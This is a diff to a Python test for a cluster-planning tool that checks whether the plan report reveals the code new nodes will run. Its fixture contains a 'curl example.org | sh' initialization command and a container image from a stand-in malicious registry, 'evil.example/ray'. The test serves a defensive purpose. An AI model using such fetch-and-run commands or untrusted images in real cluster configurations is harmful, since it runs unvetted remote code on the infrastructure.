@@ -24,7 +24,7 @@ def test_whose_code_new_nodes_run_is_shown(home):
     home.write('cluster.yaml', spec(pools={'serve': 1, 'batch': 1}, extra='setup_commands: [first, second]\n').replace(
         'batch: {', 'batch: {env: {A: b}, initialization_commands: [curl example.org | sh], '
         'mounts: [{type: nfs4, source: "a.example.org:/", path: /mnt/a}], ').replace('rayproject/ray:', 'evil.example/ray:'))
-    image = 'ray.image evil.example/ray:2.52.0-py311-cu121'
+    image = 'ray.image evil.example/ray:2.56.1-py311-cu121'
     common = f'New nodes of head, serve: {image}, setup_commands: 2'
     own = f'New nodes of batch: {image}, initialization_commands: 1, setup_commands: 2, mounts: 1, env: 1'
     plan = home.run('plan', '--report', f'markdown={home.path("report.md")}', '--out', 'p.json').out
